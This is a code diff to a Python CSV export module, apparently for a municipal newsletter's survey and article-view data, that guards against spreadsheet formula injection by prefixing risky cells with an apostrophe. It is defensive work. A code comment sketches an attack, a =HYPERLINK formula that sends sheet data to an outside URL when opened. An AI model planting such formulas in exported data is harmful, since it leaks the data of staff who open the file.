@@ -14,11 +14,36 @@ SURVEY_COLUMNS = [
 ]
 VIEWS_COLUMNS = ["日付", "自治体コード", "広報紙", "号", "記事番号", "記事タイトル", "閲覧数"]
 
+# A spreadsheet reads a cell starting with one of these as a formula (OWASP, "CSV Injection"):
+# a reader's comment =HYPERLINK("https://…?d="&A1, …) would send the sheet's data away when a
+# staff member opens the export. Such text gets a leading apostrophe and stays text.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value):
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+class _FormulaSafeWriter:
+    """csv.writer whose text cells never start a formula: every export writes through it."""
+
+    def __init__(self, out):
+        self._writer = csv.writer(out)
+
+    def writerow(self, row):
+        return self._writer.writerow([csv_cell(value) for value in row])
+
+
+def csv_writer(out) -> _FormulaSafeWriter:
+    return _FormulaSafeWriter(out)
+
 
 def survey_responses_csv(municipality, out, *, by, since: date | None = None) -> int:
     """Write the municipality's survey responses, oldest first, to `out`; returns the row count."""
     require(by, municipality, Action.EXPORT)
-    writer = csv.writer(out)
+    writer = csv_writer(out)
     writer.writerow(SURVEY_COLUMNS)
     responses = SurveyResponse.objects.for_municipality(municipality).with_article().order_by("created_at", "pk")
     if since:
@@ -38,7 +63,7 @@ def survey_responses_csv(municipality, out, *, by, since: date | None = None) ->
 def article_views_csv(municipality, out, *, by, since: date | None = None) -> int:
     """Daily views per article, one row per article and day."""
     require(by, municipality, Action.EXPORT)
-    writer = csv.writer(out)
+    writer = csv_writer(out)
     writer.writerow(VIEWS_COLUMNS)
     rows = (
         ArticleDailyViews.objects.for_municipality(municipality)
